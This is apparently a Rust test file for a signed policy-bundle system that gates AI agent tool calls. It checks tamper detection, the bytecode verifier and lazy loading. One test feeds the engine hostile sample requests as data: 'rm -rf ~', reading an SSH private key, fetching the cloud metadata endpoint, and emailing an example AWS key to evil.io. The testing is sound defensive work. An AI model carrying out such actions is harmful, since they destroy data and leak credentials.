//! Bundles: the same sources give the same bytes, and a bundle that was
//! tampered with in any way is refused before anything runs.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;
use common::*;
use permit0_compiler::{bundle, to_wire};
use permit0_vm::instr::Instr;
use permit0_vm::wire::BundleWire;
use permit0_vm::{LoadError, Program};
use sha2::{Digest, Sha256};

const REFUNDS: &str = include_str!("../examples/refunds.p0");

fn trusted() -> Vec<permit0_vm::VerifyingKey> {
    vec![test_key().verifying_key()]
}

#[test]
fn the_same_sources_always_give_the_same_bytes() {
    let a = bundle(REFUNDS);
    let b = bundle(REFUNDS);
    assert_eq!(a, b);
    let p = Program::load(&a, &trusted()).unwrap();
    assert_eq!(p.rule_count(), 7);
}

/// A silent change of the wire layout, codegen or taxonomy shows up here;
/// regenerate with `BLESS=1` after a deliberate one.
#[test]
fn golden_bundle_digest() {
    let bytes = bundle(REFUNDS);
    let digest = format!("{:x}\n", Sha256::digest(&bytes));
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/golden/refunds.p0b.sha256"
    );
    if std::env::var_os("BLESS").is_some() {
        std::fs::write(path, &digest).unwrap();
    }
    let expected = std::fs::read_to_string(path).unwrap_or_default();
    assert_eq!(
        digest, expected,
        "bundle bytes changed; if deliberate, run with BLESS=1"
    );
}

#[test]
fn every_flipped_bit_is_refused() {
    let bytes = bundle(REFUNDS);
    let keys = trusted();
    // Every header, digest and signature byte, and a spread of payload bytes.
    let mut positions: Vec<usize> = (0..18).collect();
    positions.extend((bytes.len() - 96)..bytes.len());
    positions.extend((18..bytes.len() - 96).step_by(37));
    for i in positions {
        for bit in [0u8, 3, 7] {
            let mut t = bytes.clone();
            t[i] ^= 1 << bit;
            assert!(
                Program::load(&t, &keys).is_err(),
                "flipping bit {bit} of byte {i} was accepted"
            );
        }
    }
}

#[test]
fn truncated_and_appended_bundles_are_refused() {
    let bytes = bundle(REFUNDS);
    let keys = trusted();
    for n in [0, 1, 4, 17, 18, 100, bytes.len() / 2, bytes.len() - 1] {
        let e = Program::load(&bytes[..n], &keys).unwrap_err();
        assert!(
            matches!(
                e,
                LoadError::TooShort(_) | LoadError::LengthMismatch { .. } | LoadError::BadMagic
            ),
            "{n}: {e}"
        );
    }
    let mut longer = bytes.clone();
    longer.extend_from_slice(b"\0extra");
    let e = Program::load(&longer, &keys).unwrap_err();
    assert!(matches!(e, LoadError::LengthMismatch { .. }), "{e}");
    assert!(e.to_string().contains("truncated or appended"));
}

#[test]
fn a_bundle_signed_by_an_untrusted_key_is_refused() {
    let bytes = bundle(REFUNDS);
    let e = Program::load(&bytes, &[other_key().verifying_key()]).unwrap_err();
    assert!(matches!(e, LoadError::UntrustedKey(_)), "{e}");
    assert!(e.to_string().contains("not trusted"));
    // Re-signing someone else's payload with an untrusted key does not help.
    let forged = bundle::write(&wire(REFUNDS), &other_key()).unwrap();
    assert!(Program::load(&forged, &trusted()).is_err());
}

#[test]
fn not_a_bundle_at_all() {
    let e = Program::load(b"when * then allow and some more text to pass the length check .........................................................................................................", &trusted()).unwrap_err();
    assert_eq!(e, LoadError::BadMagic);
}

fn wire(src: &str) -> BundleWire {
    to_wire(&compile_ok(src)).unwrap()
}

/// Signs a hand-modified program and expects the verifier to refuse it.
fn refused(mutate: impl FnOnce(&mut BundleWire), expect: &str) {
    let mut w = wire("when payments.refund amount > 500 and (not has currency or currency == \"usd\") then deny \"no\"\nwhen payments.refund then allow");
    mutate(&mut w);
    let bytes = bundle::write(&w, &test_key()).unwrap();
    match Program::load(&bytes, &trusted()) {
        Err(LoadError::Invalid(msg)) => {
            assert!(msg.contains(expect), "expected `{expect}` in `{msg}`")
        }
        Err(e) => panic!("refused for another reason: {e}"),
        Ok(_) => panic!("a bundle that should fail verification loaded ({expect})"),
    }
}

fn refund_code(w: &mut BundleWire) -> &mut Vec<Instr> {
    let a = w
        .actions
        .iter_mut()
        .find(|a| a.name == "payments.refund")
        .unwrap();
    &mut a.code
}

#[test]
fn the_bytecode_verifier_refuses_bad_code() {
    refused(
        |w| refund_code(w).insert(1, Instr::JumpIfFalse { to: 0 }),
        "jump is not forward",
    );
    refused(
        |w| refund_code(w).insert(0, Instr::JumpIfTrue { to: 9999 }),
        "out of bounds",
    );
    refused(
        |w| {
            refund_code(w).insert(
                0,
                Instr::IntCmpK {
                    slot: 250,
                    op: permit0_vm::instr::Cmp::Eq,
                    k: 0,
                },
            )
        },
        "slot 250 does not exist",
    );
    refused(
        |w| {
            refund_code(w).insert(
                0,
                Instr::IntCmpK {
                    slot: 0,
                    op: permit0_vm::instr::Cmp::Eq,
                    k: 60_000,
                },
            )
        },
        "constant out of range",
    );
    // slot 1 is `currency`, a string
    refused(
        |w| {
            refund_code(w).insert(
                0,
                Instr::IntCmpK {
                    slot: 1,
                    op: permit0_vm::instr::Cmp::Eq,
                    k: 0,
                },
            )
        },
        "not numeric",
    );
    refused(
        |w| *refund_code(w) = vec![Instr::Const { value: true }],
        "does not end in a decision",
    );
    refused(
        |w| refund_code(w).insert(0, Instr::Fire { rule: 400 }),
        "rule out of range",
    );
    refused(|w| w.model.gates.clear(), "risk model");
    refused(
        |w| {
            w.model.gates[0].thresholds[0].1 = 0.99;
        },
        "risk model",
    );
}

#[test]
fn trailing_bytes_inside_the_payload_are_refused() {
    let w = wire(REFUNDS);
    let mut payload = postcard::to_allocvec(&w).unwrap();
    payload.extend_from_slice(&[0, 0, 0]);
    // Frame and sign the padded payload by hand, as an attacker with the key
    // might: the reader still refuses it.
    let key = test_key();
    let mut out = Vec::new();
    out.extend_from_slice(&permit0_vm::wire::MAGIC);
    out.extend_from_slice(&permit0_vm::wire::FORMAT_VERSION.to_le_bytes());
    out.extend_from_slice(&permit0_vm::key_id(&key.verifying_key()));
    out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    out.extend_from_slice(&payload);
    let digest: [u8; 32] = Sha256::digest(&out).into();
    out.extend_from_slice(&digest);
    use ed25519_dalek::Signer;
    out.extend_from_slice(&key.sign(&digest).to_bytes());
    assert_eq!(
        Program::load(&out, &trusted()).unwrap_err(),
        LoadError::TrailingPayload(3)
    );
}

/// `permit0 hook` loads lazily: the envelope and signature cover every byte,
/// but only the actions a request uses are decoded and verified. A signed
/// bundle whose refund code jumps out of bounds: the eager load refuses the
/// bundle; the lazy one loads it, denies every refund (the code never
/// runs, and no human answer could make it) and decides other actions as
/// the policy says.
#[test]
fn a_lazy_load_never_runs_code_that_fails_verification() {
    let mut w = wire(
        "when payments.refund amount > 500 then deny \"no\"\nwhen payments.refund then allow\nwhen payments.charge then allow",
    );
    refund_code(&mut w).insert(0, Instr::JumpIfTrue { to: 9999 });
    let bytes = bundle::write(&w, &test_key()).unwrap();
    match Program::load(&bytes, &trusted()) {
        Err(LoadError::Invalid(msg)) => assert!(msg.contains("out of bounds"), "{msg}"),
        other => panic!("the eager load should refuse the bundle: {other:?}"),
    }
    let p = Program::load_lazily(&bytes, &trusted()).unwrap();
    let d = decide(
        &p,
        serde_json::json!({"action": "payments.refund",
            "args": {"amount": 100, "currency": "usd", "charge_id": "ch_1"}}),
    );
    assert_eq!(d["decision"], "deny", "{d}");
    let reason = d["reason"].as_str().unwrap();
    assert!(
        reason.contains("cannot run") && reason.contains("out of bounds"),
        "{reason}"
    );
    let charge = serde_json::json!({"action": "payments.charge",
        "args": {"amount": 100, "currency": "usd"}});
    assert_eq!(verdict(&p, charge), "allow");
    // A lazily loaded bundle is still a signed one: a flipped byte is
    // refused before anything is decoded.
    let mut flipped = bytes.clone();
    flipped[40] ^= 1;
    assert!(Program::load_lazily(&flipped, &trusted()).is_err());
}

/// Lazy and eager loads of the standard library decide every request of
/// its test blocks alike (the lazy load builds each action on first use).
#[test]
fn lazy_and_eager_loads_decide_alike() {
    let (c, _) = stdlib();
    let bytes = permit0_compiler::build_bundle(c, &test_key()).unwrap();
    let eager = Program::load(&bytes, &trusted())
        .unwrap()
        .with_builtins(&permit0_classify::CLASSIFIERS);
    let lazy = Program::load_lazily(&bytes, &trusted())
        .unwrap()
        .with_builtins(&permit0_classify::CLASSIFIERS);
    let requests = [
        serde_json::json!({"tool": "Bash", "args": {"command": "cargo test"}, "context": {"workspace": "/home/dev/p"}}),
        serde_json::json!({"tool": "Bash", "args": {"command": "rm -rf ~"}, "context": {"workspace": "/home/dev/p"}}),
        serde_json::json!({"tool": "Read", "args": {"file_path": "/home/dev/.ssh/id_rsa"}, "context": {"workspace": "/home/dev/p"}}),
        serde_json::json!({"tool": "WebFetch", "args": {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "x"}}),
        serde_json::json!({"tool": "sql_query", "args": {"query": "DELETE FROM users"}}),
        serde_json::json!({"action": "payments.refund", "args": {"amount": 900, "currency": "usd", "charge_id": "ch_1"}}),
        serde_json::json!({"action": "email.send", "args": {"to": ["a@evil.io"], "subject": "hi", "body": "AKIAIOSFODNN7EXAMPLE"}}),
        serde_json::json!({"tool": "no_such_tool", "args": {}}),
        serde_json::json!({"action": "no.such_action", "args": {}}),
    ];
    for r in requests {
        assert_eq!(decide(&eager, r.clone()), decide(&lazy, r.clone()), "{r}");
    }
}

/// A tool mapping whose condition and fields do not decode (signed, so
/// only the compiler or a holder of the key could have written it): the
/// eager load refuses the bundle; the lazy one refuses every call of that
/// tool — it never falls through to another mapping of the tool.
#[test]
fn a_tool_mapping_that_does_not_decode_refuses_its_calls() {
    use permit0_vm::wire::{FramedAction, FramedTool};
    let (c, _) = stdlib();
    let bytes = permit0_compiler::build_bundle(c, &test_key()).unwrap();
    let payload = permit0_vm::check_envelope(&bytes, None).unwrap().payload;
    let mut w: BundleWire<FramedAction, FramedTool> = postcard::from_bytes(payload).unwrap();
    let bash: Vec<usize> = (0..w.tools.len())
        .filter(|&i| w.tools[i].names.iter().any(|n| n == "Bash"))
        .collect();
    assert!(!bash.is_empty());
    for i in &bash {
        // The frame says the mapping has no condition; flip that so the
        // body disagrees with its frame.
        w.tools[*i].conditional = !w.tools[*i].conditional;
    }
    let bytes = bundle::write(&w, &test_key()).unwrap();
    match Program::load(&bytes, &trusted()) {
        Err(LoadError::Invalid(msg)) => assert!(msg.contains("disagrees"), "{msg}"),
        other => panic!("the eager load should refuse the bundle: {other:?}"),
    }
    let p = Program::load_lazily(&bytes, &trusted())
        .unwrap()
        .with_builtins(&permit0_classify::CLASSIFIERS);
    let d = decide(
        &p,
        serde_json::json!({"tool": "Bash", "args": {"command": "ls"}, "context": {"workspace": "/home/dev/p"}}),
    );
    assert_eq!(d["decision"], "deny", "{d}");
    let read = serde_json::json!({"tool": "Read", "args": {"file_path": "/home/dev/p/README.md"}, "context": {"workspace": "/home/dev/p"}});
    assert_eq!(verdict(&p, read), "allow");
}

/// Counts the classifier calls of the statement classifier a SQL tool's
/// mappings share, passing every call on to the real classifiers.
#[derive(Debug)]
struct CountingSqlRemoval(std::sync::atomic::AtomicUsize);

impl permit0_vm::Builtins for CountingSqlRemoval {
    fn call(
        &self,
        f: permit0_types::builtin::Builtin,
        args: &[&serde_json::Value],
    ) -> Option<serde_json::Value> {
        if f == permit0_types::builtin::Builtin::SqlRemoval {
            self.0.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }
        permit0_classify::CLASSIFIERS.call(f, args)
    }
}

static SQL_REMOVALS: CountingSqlRemoval =
    CountingSqlRemoval(std::sync::atomic::AtomicUsize::new(0));

/// `sql_query` has three mappings: `DROP TABLE` and `TRUNCATE` under a
/// condition on the statement's removal, then the plain query. The
/// conditions and the fields of one tool name are evaluated together, so
/// a `SELECT` that passes both conditions asks the removal once, and each
/// statement still reaches the mapping its kind names.
#[test]
fn a_tools_mappings_ask_a_shared_condition_once() {
    let (c, _) = stdlib();
    let p = permit0_compiler::build_program(c)
        .unwrap()
        .with_builtins(&SQL_REMOVALS);
    let count = || SQL_REMOVALS.0.load(std::sync::atomic::Ordering::Relaxed);
    let bind = |sql: &str| {
        let before = count();
        let r = p
            .bind(&serde_json::json!({"tool": "sql_query", "args": {"sql": sql}}))
            .unwrap();
        let action = r
            .action()
            .and_then(|a| p.action_name(a))
            .unwrap_or_default();
        (action.to_string(), count() - before)
    };
    assert_eq!(bind("SELECT * FROM users"), ("db.query".to_string(), 1));
    assert_eq!(bind("DROP TABLE users"), ("db.drop_table".to_string(), 1));
    assert_eq!(bind("TRUNCATE users"), ("db.truncate_table".to_string(), 1));
}
